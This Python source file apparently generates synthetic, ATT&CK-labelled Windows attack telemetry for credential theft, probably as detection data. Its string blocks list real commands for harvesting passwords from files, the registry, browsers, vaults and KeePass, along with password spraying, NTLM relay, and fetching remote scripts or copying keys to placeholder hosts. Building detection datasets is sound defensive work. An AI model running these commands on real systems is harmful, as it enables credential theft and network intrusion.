"""Commands that look for passwords in files, registries, browsers and vaults, guess them, or catch them on the wire."""

from __future__ import annotations

from generator.families.windows.commands_credentials import ANYBODY, theft
from generator.families.windows.commands_told import STRANGE, told
from generator.scene import attack

told("credential-words-in-files", theft("T1552.001", "T1083", severity="HIGH"), r"""
findstr /si password *.xml *.ini *.txt *.config
findstr /s /i /m "password" C:\Users\*.txt C:\Users\*.docx > @tmp@@word@.txt
findstr /spin "«passwort|password|kennwort|passwd|contraseña»" \\@host@\share\*.*
findstr /S /I cpassword \\@fqdn@\sysvol\@fqdn@\policies\*.xml
findstr /si "connectionString" C:\inetpub\wwwroot\web.config
dir /s /b C:\*«pass|cred|vnc|kennwort»*.«txt|xls|xml|ini»* >> @tmp@@word@.txt
cmd /c type C:\inetpub\wwwroot\web.config | findstr /i password
cmd /c type C:\Windows\Panther\Unattend.xml C:\Windows\sysprep\sysprep.xml
cmd.exe /c for /r C:\ %i in (unattend.xml sysprep.inf groups.xml ultravnc.ini) do @type "%i" >> @tmp@@word@.txt
cmd /c type "%APPDATA%\FileZilla\recentservers.xml" "%APPDATA%\FileZilla\sitemanager.xml"
cmd /c type %USERPROFILE%\.aws\credentials %USERPROFILE%\.azure\accessTokens.json %APPDATA%\gcloud\credentials.db
cmd /c type "%APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt" | findstr /i "pass cred secret"
powershell -w hidden -c "gci C:\ -r -inc *.txt,*.xml,*.config,*.ps1 -ea 0 | Select-String -Pattern 'password' | Out-File @tmp@@word@.txt"
powershell -ep bypass -c "Import-Module .\PowerSploit.psd1; Get-UnattendedInstallFile; Get-Webconfig; Get-SiteListPassword"
powershell -nop -c "iex(iwr @url@/Get-GPPPassword.ps1 -useb); Get-GPPPassword"
@tmp@Net-GPPPassword.exe @fqdn@
@tmp@gpp-decrypt.exe @hex@@hex@
@tmp@Snaffler.exe -d @fqdn@ -s -v data -o @tmp@@word@.log
@tmp@LaZagne.exe all -oA -output C:\Users\Public
@tmp@@word@.exe all -quiet -oN ## lazagne
@tmp@SessionGopher.exe & powershell -ep bypass -c ". .\SessionGopher.ps1; Invoke-SessionGopher -Thorough"
@tmp@SauronEye.exe -d C:\Users -f .txt .docx .xlsx -c -k pass* wachtwoord*
@tmp@trufflehog.exe filesystem C:\Users --json
@tmp@nxc.exe smb @dc@ -u @user@ -p @pw@ -M gpp_password
netsh wlan show profile name="@Word@" key=clear
netsh wlan export profile key=clear folder=C:\Users\Public
cmd /c for /f "skip=9 tokens=1,2 delims=:" %i in ('netsh wlan show profiles') do @echo %j | findstr -i -v echo | netsh wlan show profiles %j key=clear
""", parents=STRANGE + STRANGE[:3] + ("cmd.exe",), users=(None, "SYSTEM"), most=3, weight=1.3)

told("credential-words-in-registry", theft("T1552.001", "T1082", severity="HIGH"), r"""
reg query HKLM /f password /t REG_SZ /s
reg query HKCU /f password /t REG_SZ /s > @tmp@@word@.txt
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\Currentversion\Winlogon" | findstr /i "DefaultUserName DefaultDomainName DefaultPassword"
reg query HKCU\Software\SimonTatham\PuTTY\Sessions /t REG_SZ /s
reg query "HKCU\Software\Martin Prikryl\WinSCP 2\Sessions" /s
reg query HKCU\Software\ORL\WinVNC3\Password
reg query HKLM\SOFTWARE\RealVNC\WinVNC4 /v password
reg query HKLM\SOFTWARE\TightVNC\Server /v Password
reg query HKCU\Software\OpenSSH\Agent\Keys
reg query HKLM\SYSTEM\CurrentControlSet\Services\SNMP\Parameters\ValidCommunities
reg export HKCU\Software\SimonTatham\PuTTY C:\Users\Public\@word@.reg
reg export "HKCU\Software\Martin Prikryl" @tmp@@word@.reg /y
reg query HKLM\SOFTWARE\TeamViewer /v SecurityPasswordAES
reg query "HKLM\SOFTWARE\Veeam\Veeam Backup and Replication" /v SqlDatabaseName
powershell -ep bypass -c "Import-Module .\PowerUp.ps1; Get-RegistryAutoLogon; Get-ApplicationHost"
powershell -w hidden -c "gp 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' | select Default*"
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("credential-private-keys", theft("T1552.004", "T1552.001", severity="HIGH"), r"""
dir c:\ /b /s *.key *.pgp *.gpg *.ppk *.p12 *.pem *.pfx *.cer *.p7b *.asc | findstr /v Windows >> @tmp@@word@.txt
cmd /c for /r C:\Users %f in (id_rsa id_ed25519 *.ppk *.pem) do @copy "%f" @tmp@@word@
cmd /c xcopy %USERPROFILE%\.ssh C:\Users\Public\@word@ /E /H /I /Y
cmd.exe /c type C:\Users\@user@\.ssh\id_rsa
where /r C:\Users *.pfx *.ppk id_rsa*
powershell -w hidden -c "gci C:\Users -r -inc *.ppk,*.pem,id_rsa*,*.pfx -ea 0 | Copy-Item -Destination C:\ProgramData\@word@"
powershell -c "Get-ChildItem Cert:\CurrentUser\My | % {Export-PfxCertificate -Cert $_ -FilePath @tmp@$($_.Thumbprint).pfx -Password (ConvertTo-SecureString '@pw@' -AsPlainText -Force)}"
certutil -exportPFX -p "@pw@" my @hex@ C:\Users\Public\@word@.pfx
certutil.exe -user -exportpfx -f -p @pw@ My @tmp@@word@.pfx NoChain
@tmp@mimikatz.exe "crypto::capi" "crypto::cng" "crypto::certificates /systemstore:local_machine /export" exit
@tmp@@word@.exe "crypto::certificates /export" exit ## mimikatz.exe
@tmp@SharpDPAPI.exe certificates /machine
@tmp@ADFSDump.exe /nokey:false
powershell -c "Export-AADIntADFSCertificates; Export-AADIntADFSConfiguration -Local"
@tmp@Certify.exe find /vulnerable & @tmp@Certify.exe download
@tmp@jecretz.exe & dir /s C:\Users\*wallet*.dat C:\Users\*.jks C:\Users\*keystore*
robocopy C:\Users \\@ip@\share\@word@ *.pem *.ppk *.ovpn /S /B /R:0
@tmp@Seatbelt.exe FileZilla PuttyHostKeys SuperPutty CloudCredentials Certificates
""", parents=STRANGE + ("cmd.exe",), users=(None, "SYSTEM"), most=2)

told("credential-browsers-emptied", theft("T1555.003", "T1555.004", severity="HIGH"), r"""
cmd /c copy "C:\Users\@user@\AppData\Local\Google\Chrome\User Data\Default\Login Data" @tmp@@word@
cmd.exe /c copy /y "%LOCALAPPDATA%\Microsoft\Edge\User Data\Default\Login Data" C:\Users\Public\@word@.db
esentutl.exe /y "C:\Users\@user@\AppData\Local\Google\Chrome\User Data\Default\Network\Cookies" /d @tmp@@word@ /o
esentutl /r V01 /lC:\Users\@user@\AppData\Local\Microsoft\Windows\WebCache /s C:\Windows\Temp /d
xcopy "%APPDATA%\Mozilla\Firefox\Profiles" C:\ProgramData\@word@ /E /H /C /I /Y
robocopy "C:\Users\@user@\AppData\Roaming\Mozilla\Firefox\Profiles" @tmp@@word@ key4.db logins.json /S
powershell -w hidden -c "Copy-Item \"$env:LOCALAPPDATA\Google\Chrome\User Data\Local State\" $env:TEMP\@word@; Stop-Process -Name chrome -Force"
powershell -ep bypass -c "Import-Module .\Get-ChromeDump.ps1; Get-ChromeDump -OutFile C:\Users\Public\@word@.txt"
"C:\Program Files\Google\Chrome\Application\chrome.exe" --headless --remote-debugging-port=9222 --user-data-dir="C:\Users\@user@\AppData\Local\Google\Chrome\User Data"
"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --headless --disable-gpu --remote-debugging-port=@port@ --profile-directory=Default --restore-last-session
@tmp@WebBrowserPassView.exe /stext C:\Users\Public\@word@.txt
@tmp@ChromePass.exe /shtml @tmp@@word@.html
@tmp@PasswordFox.exe /scomma @word@.csv
@tmp@SharpWeb.exe all
@tmp@SharpChrome.exe logins /unprotect
@tmp@SharpChrome.exe cookies /browser:edge /format:json
@tmp@HackBrowserData.exe -b all -f csv --dir C:\ProgramData\@word@
@tmp@BrowserGhost.exe & @tmp@SharpChromium.exe all
@tmp@LaZagne.exe browsers -oJ
@tmp@CookieKatz.exe /pid:@pid@
@tmp@firefox_decrypt.exe C:\Users\@user@\AppData\Roaming\Mozilla\Firefox\Profiles
@tmp@donpapi.exe @domain@/@user@:@pw@@@ip@
cmd /c taskkill /f /im «chrome|msedge|brave».exe & copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" %TEMP%\@word@
@tmp@sqlite3.exe "@tmp@Login Data" "SELECT origin_url,username_value,password_value FROM logins"
""", parents=ANYBODY, most=2, weight=1.2)

told("credential-vault-of-windows", theft("T1555.004", "T1555.003", severity="HIGH"), r"""
vaultcmd /listcreds:"Windows Credentials" /all
vaultcmd.exe /listcreds:"Web Credentials" /all
VaultCmd.exe /listproperties:"Windows Credentials"
cmdkey /list
cmdkey.exe /list > @tmp@@word@.txt
rundll32.exe keymgr.dll,KRShowKeyMgr
rundll32 keymgr.dll, KRShowKeyMgr
powershell -ep bypass -c "IEX(iwr @url@/GetCredmanCreds.ps1 -useb); Get-PasswordVaultCredentials; Get-CredManCreds"
powershell -nop -c "[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime];(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll() | % {$_.RetrievePassword();$_}"
powershell -c "Import-Module .\Invoke-WCMDump.ps1; Invoke-WCMDump"
cmd /c dir /a %APPDATA%\Microsoft\Credentials %LOCALAPPDATA%\Microsoft\Credentials & xcopy %APPDATA%\Microsoft\Protect @tmp@@word@ /E /H
@tmp@mimikatz.exe "vault::cred /patch" "vault::list" exit
@tmp@@word@.exe "dpapi::cred /in:C:\Users\@user@\AppData\Local\Microsoft\Credentials\@hex@" exit ## mimikatz.exe
@tmp@SharpDPAPI.exe credentials /server:@dc@
@tmp@SharpDPAPI.exe backupkey /nowrap /file:key.pvk
@tmp@NirSoft\CredentialsFileView.exe /stext @tmp@@word@.txt
@tmp@VaultPasswordView.exe /stab C:\Users\Public\@word@.txt
@tmp@netpass.exe /stext @tmp@@word@.txt
@tmp@CredMaster.exe & @tmp@LaZagne.exe windows -vv
@tmp@Seatbelt.exe CredEnum WindowsVault WindowsCredentialFiles DpapiMasterKeys
""", parents=STRANGE, users=(None, "SYSTEM"), most=2)

told("credential-password-managers", theft("T1555.005", "T1552.001", severity="HIGH"), r"""
cmd /c dir /s /b C:\*.kdbx > @tmp@@word@.txt
cmd /c copy \\@host@\c$\Users\*.kdbx C:\ProgramData\@word@\
where /r C:\Users *.kdbx
robocopy C:\Users @tmp@@word@ *.kdbx *.kdb *.agilekeychain *.opvault /S /B
powershell -ep bypass -c "Import-Module .\KeeThief.ps1; Get-Process KeePass | Get-KeePassDatabaseKey -Verbose"
powershell -nop -c "Find-KeePassConfig; Add-KeePassConfigTrigger"
@tmp@KeeThief.exe & @tmp@SharpDump.exe @pid@
@tmp@KeeTheft.exe
@tmp@KeePassHax.exe
@tmp@keepass_dump.exe -f C:\Windows\Temp\KeePass.dmp
@tmp@procdump64.exe -accepteula -ma «KeePass|1Password|Bitwarden|LastPass».exe @tmp@@word@.dmp
rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump @pid@ C:\Users\Public\KeePass.dmp full
xcopy "%APPDATA%\Bitwarden" C:\Users\Public\@word@ /E /H /Y /I
xcopy "%LOCALAPPDATA%\1Password\data" @tmp@@word@ /E /H
cmd.exe /c copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Local Extension Settings\hdokiejnpimakedhajhdlcegeplioahd\*" @tmp@@word@
@tmp@hashcat.exe -m 13400 @word@.hash rockyou.txt
@tmp@keepass2john.exe C:\ProgramData\@word@.kdbx
@tmp@nxc.exe smb @ip@ -u @user@ -p @pw@ -M keepass_discover
""", parents=ANYBODY, users=(None, "SYSTEM"), most=2)

told("credential-spraying-tools", attack("Password Spraying", "T1110.003", "T1087.002", severity="HIGH"), r"""
powershell -ep bypass -c "Import-Module .\DomainPasswordSpray.ps1; Invoke-DomainPasswordSpray -Password «Summer|Winter|Sommer|Welcome»@year@! -OutFile C:\Users\Public\@word@.txt -Force"
powershell -nop -c "IEX(iwr @url@/DomainPasswordSpray.ps1 -useb); Invoke-DomainPasswordSpray -UserList users.txt -Domain @fqdn@ -PasswordList p.txt"
@tmp@Rubeus.exe brute /password:@pw@ /noticket /outfile:@word@.txt
@tmp@Rubeus.exe spray /users:users.txt /passwords:p.txt /domain:@fqdn@
@tmp@kerbrute_windows_amd64.exe passwordspray -d @fqdn@ --dc @ip@ users.txt @pw@
@tmp@@word@.exe bruteuser --dc @dc@ -d @fqdn@ passwords.txt administrator
@tmp@crackmapexec.exe smb @dc@ -u users.txt -p @pw@ --continue-on-success
@tmp@nxc.exe ldap @ip@ -u users.txt -p passwords.txt --no-bruteforce
@tmp@SharpSpray.exe --Passwords @pw@ --delay 1000
@tmp@SharpHose.exe --action SPRAY_USERS --spraypassword @pw@ --output C:\ProgramData\@word@
@tmp@hydra.exe -L users.txt -P pass.txt rdp://@ip@
@tmp@ncrack.exe -U users.txt -P pass.txt rdp://@ip@
@tmp@NLBrute.exe
cmd /c for /f %u in (@tmp@users.txt) do @net use \\@dc@\IPC$ @pw@ /user:@domain@\%u 1>nul 2>&1 && echo %u:@pw@ >> @tmp@@word@.txt
cmd /c for /f %p in (@tmp@pass.txt) do net use \\@ip@\c$ %p /user:administrator && echo OK %p
powershell -ep bypass -c "Invoke-LocalPasswordSpray -Password @pw@; Invoke-SMBAutoBrute -UserList u.txt -PasswordList '@pw@'"
@tmp@talon.exe -U users.txt -P p.txt -D @fqdn@ -H @dc@
""", parents=ANYBODY, most=2)

told("credential-caught-on-the-wire", theft("T1557", "T1056", severity="HIGH"), r"""
powershell -ep bypass -c "Import-Module .\Inveigh.ps1; Invoke-Inveigh -ConsoleOutput Y -LLMNR Y -NBNS Y -mDNS Y -HTTPS Y -FileOutput Y"
@tmp@Inveigh.exe -LLMNR Y -NBNS Y -FileOutput Y -FileDirectory C:\Users\Public
@tmp@@word@.exe -dns y -ldap y -llmnr y -smb y ## Inveigh.exe
@tmp@Responder.exe -i @ip@ -rPv
@tmp@InveighZero.exe -IP @ip@ -SpooferIP @ip@
powershell -nop -c "Invoke-InveighRelay -ConsoleOutput Y -Target @ip@ -Command 'net user @word@ @pw@ /add'"
@tmp@ntlmrelayx.exe -tf targets.txt -smb2support -socks
python.exe ntlmrelayx.py -t ldaps://@dc@ --delegate-access -smb2support
@tmp@mitm6.exe -d @fqdn@ -i eth0
@tmp@SpoolSample.exe @dc@ @host@
@tmp@PetitPotam.exe @ip@ @dc@ 1
@tmp@Coercer.exe coerce -l @ip@ -t @dc@ -u @user@ -p @pw@
@tmp@DFSCoerce.exe -u @user@ -p @pw@ @ip@ @dc@
@tmp@DivertTCPconn.exe 445 8445
@tmp@lsarelayx.exe --host @ip@
@tmp@Farmer.exe 8888 60 C:\ProgramData\@word@.log
@tmp@SharpRelay.exe & @tmp@StreamDivert.exe @tmp@config.txt
powershell -c "Find-InterestingFile; Copy-Item .\@word@.scf \\@host@\share\; Copy-Item .\desktop.ini \\@host@\share\"
""", parents=ANYBODY, users=(None, "SYSTEM"), most=2)
